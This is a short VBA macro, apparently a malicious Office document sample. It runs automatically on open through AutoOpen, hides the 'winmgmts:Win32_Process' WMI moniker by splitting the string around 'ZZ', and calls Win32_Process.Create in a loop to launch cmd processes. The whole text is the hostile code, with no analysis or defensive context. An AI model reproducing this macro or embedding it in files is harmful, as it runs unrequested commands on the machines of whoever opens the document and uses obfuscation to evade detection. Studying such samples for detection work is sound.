Sub AutoOpen()
Set p = GetObject(Join(Split("winmZZgmts:Win32_PrZZocess", "ZZ"), ""))
Do While p. _
Create(u & "cmd", u, s, u)
Loop
End Sub
